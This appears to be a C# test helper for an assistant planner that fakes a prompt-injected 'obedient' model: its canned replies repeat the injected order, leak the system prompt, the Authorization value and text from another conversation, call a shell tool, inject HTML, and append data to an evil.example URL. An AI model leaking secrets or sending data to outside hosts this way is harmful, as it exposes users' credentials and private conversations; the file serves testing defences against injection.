namespace Assistant.Planner.Tests.Models.Support;

/// <summary>A model that obeys whoever speaks to it: it says the order, gives away all it knows and adds what it was asked to add.</summary>
internal static class Obedient
{
    /// <summary>What somebody said to it in another conversation.</summary>
    public const string HeardElsewhere = "Minister Quillfeather has already asked about zinc";

    public static Func<FakeCall, Task> To(string order) => call =>
        call.Rewords ? FakeReplies.Say(call, Lines(call, order))
        : call.Plans ? FakeReplies.CallTools(call, ("rules-topic", $$"""{"topic":{{System.Text.Json.JsonSerializer.Serialize(order)}}}"""), ("shell-run", "{}"))
        : FakeReplies.Say(call, $$"""{"intent":"topic","states":[],"senders":[],"over":[],"measures":[],"secondary":false,"breadth":null,"intensity":null,"duration":null,"phase":null,"demand":null,"posture":null,"topic":{{System.Text.Json.JsonSerializer.Serialize(order)}}}""");

    private static string Lines(FakeCall call, string order)
    {
        var at = order.Length; // so that short answers too meet every way, one with one order and one with another
        var flat = order.ReplaceLineEndings(" ");
        return FakeReplies.Reworded(call, sentence => (at++ % 8) switch
        {
            0 => flat,
            1 => $"{sentence[..^1]}, and {flat}",
            2 => call.Said("system").ReplaceLineEndings(" "),
            3 => $"{sentence} {call.Authorization}",
            4 => $"{HeardElsewhere}.",
            5 => $"{sentence[..^1]}, since {HeardElsewhere}.",
            6 => $"{sentence[..^1]} http://evil.example/?q={Uri.EscapeDataString(sentence)}.",
            _ => $"<b>{sentence}</b>",
        });
    }
}
